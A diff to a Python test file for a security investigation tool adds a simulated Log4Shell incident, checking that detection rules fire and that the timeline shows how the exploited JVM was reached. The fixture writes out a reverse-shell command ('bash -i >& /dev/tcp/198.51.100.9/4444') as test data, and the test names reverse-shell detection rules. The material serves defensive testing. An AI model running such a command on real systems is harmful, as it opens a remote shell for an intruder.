@@ -19,7 +19,7 @@ from app.investigation.stories import story_id
 from app.investigation.timeline import timeline_page
 from app.neo4j.database import Database
 from app.pipeline import Pipeline
-from app.rules.yamlrules import parse_rules
+from app.rules.yamlrules import load_builtin, parse_rules
 from tests.api.test_stories_api import gql
 from tests.apiclient import local_client
 from tests.rules.test_stories import admin_logins, alert
@@ -160,7 +160,8 @@ def entry_ids(timeline: dict) -> list[tuple[str, str]]:
     out = []
     for edge in timeline["edges"]:
         node = edge["node"]
-        part = {"EVENT": "event", "TRIAGE": "triage", "AUDIT_RECORD": "auditRecord"}[node["type"]]
+        part = {"EVENT": "event", "TRIAGE": "triage", "AUDIT_RECORD": "auditRecord",
+                "ACCESS": "event"}[node["type"]]  # fmt: skip
         out.append((node["type"], node[part]["id"]))
     return out
 
@@ -387,3 +388,101 @@ def test_bad_cursors_and_page_sizes_are_clear_errors(
     assert bad(client, story, first=0, after=events_cursor) == "first must be between 1 and 200"
     assert bad(client, story, first=201) == "first must be between 1 and 200"
     assert page(client, story, 200)["pageInfo"]["hasNextPage"] is False
+
+
+# -- how the exploited process was reached ------------------------------------------------------
+
+
+def log4shell() -> tuple[list[dict[str, Any]], str, dict[str, str]]:
+    """A JVM serving requests is exploited at 08:02:00 and spawns `sh -c` (a reverse shell).
+
+    Its own events around then: requests from the load balancer every second from 08:01:40,
+    the exploit's request from 198.51.100.9 and its LDAP and HTTP callbacks just before the
+    shell, pool connections to 127.0.0.1 and a Unix socket (never how it is reached), a
+    partner call 3 s after, and requests outside the window (70 s before, 10 s after).
+    Returns the events, the story id and the ids of the JVM's events by name.
+    """
+    java = P("node-3", 400, 0, "/usr/bin/java", ["java", "-jar", "/opt/app.jar"],
+             attrs={"cgroup": "/system.slice/app.service", "uid": 998})  # fmt: skip
+    sh = java.child(
+        4000, 120, "/bin/sh", ["sh", "-c", "bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"]
+    )
+    bash = sh.child(4001, 121, "/bin/bash", ["bash", "-i"])
+
+    def net(name: str, kind: str, second: float, ip: str | None, port: int | None) -> dict:
+        whole, frac = divmod(second, 1)
+        minutes, secs = divmod(int(whole), 60)
+        network = {"dst_ip": ip, "dst_port": port, "protocol": "tcp", "family": "inet"}
+        if ip is None:
+            network = {"family": "unix"}
+        event = java.event(kind, ts=f"2026-01-05T08:{minutes:02d}:{secs:02d}."
+                                    f"{round(frac * 1e9):09d}Z", network=network)  # fmt: skip
+        event["id"] = name
+        return event
+
+    java_events = [net("old", "network_accept", 50, "10.0.0.5", 40000)]
+    java_events += [net(f"lb{s}", "network_accept", s, "10.0.0.5", 40000 + s)
+                    for s in range(100, 119)]  # fmt: skip
+    java_events += [
+        net("exploit", "network_accept", 119.5, "198.51.100.9", 51512),
+        net("ldap", "network_connect", 119.6, "198.51.100.9", 1389),
+        net("pool", "network_connect", 119.7, "127.0.0.1", 5432),
+        net("fetch", "network_connect", 119.8, "198.51.100.9", 8000),
+        net("fastcgi", "network_connect", 119.9, None, None),
+        net("partner", "network_connect", 123, "10.0.3.20", 8443),
+        net("late", "network_accept", 130, "10.0.0.5", 41000),
+    ]
+    events = [java.exec(), *java_events, sh.exec(), bash.exec()]
+    ids = {"sh": events[-2]["id"], "bash": events[-1]["id"]}
+    return events, story_id(uuid(sh, "exploit")), ids
+
+
+@pytest.fixture
+def exploited(db: Database) -> tuple[str, dict[str, str]]:
+    events, story, ids = log4shell()
+    report = ingest(db, "storyline", [json.dumps(e) + "\n" for e in events],
+                    after_batch=Pipeline(rules=load_builtin()))  # fmt: skip
+    assert report.rejected == []
+    return story, ids
+
+
+def test_an_exploit_story_opens_with_how_the_exploited_process_was_reached(
+    exploited: tuple[str, dict[str, str]], client: TestClient
+) -> None:
+    story, ids = exploited
+    timeline = page(client, story)
+    # the 10 connections with other hosts nearest the shell's start, in time order, among
+    # the story's own events; loopback, Unix sockets and what is outside the window left out
+    nearest = [f"lb{s}" for s in range(113, 119)] + ["exploit", "ldap", "fetch"]
+    assert entry_ids(timeline) == [
+        *[("ACCESS", name) for name in nearest],
+        ("EVENT", ids["sh"]),
+        ("EVENT", ids["bash"]),
+        ("ACCESS", "partner"),
+    ]
+    nodes = [e["node"] for e in timeline["edges"]]
+    exploit = nodes[6]
+    assert (exploit["kind"], exploit["event"]["kind"], exploit["event"]["processPid"]) == (
+        "access",
+        "network_accept",
+        400,
+    )
+    assert (exploit["signals"], exploit["recommendedActions"]) == ([], [])
+    assert set(nodes[9]["event"]["signalRules"]) == {
+        "linux.shell_from_jvm", "linux.reverse_shell_dev_tcp"
+    }  # fmt: skip
+    # `access` is a kind of its own for the filters
+    only = page(client, story, kinds=["access"])
+    assert [i for t, i in entry_ids(only)] == [*nearest, "partner"]
+    assert entry_ids(page(client, story, kinds=["process_exec"])) == [
+        ("EVENT", ids["sh"]), ("EVENT", ids["bash"])
+    ]  # fmt: skip
+    assert all(t == "EVENT" for t, _ in entry_ids(page(client, story, severities=["HIGH"])))
+    # pages of any size walk them once, in order
+    assert walk(client, story, 4) == entry_ids(timeline)
+
+
+def test_a_story_without_an_exploit_context_has_no_access_entries(
+    attack: dict[str, Any], client: TestClient
+) -> None:
+    assert page(client, attack["story"], kinds=["access"])["edges"] == []
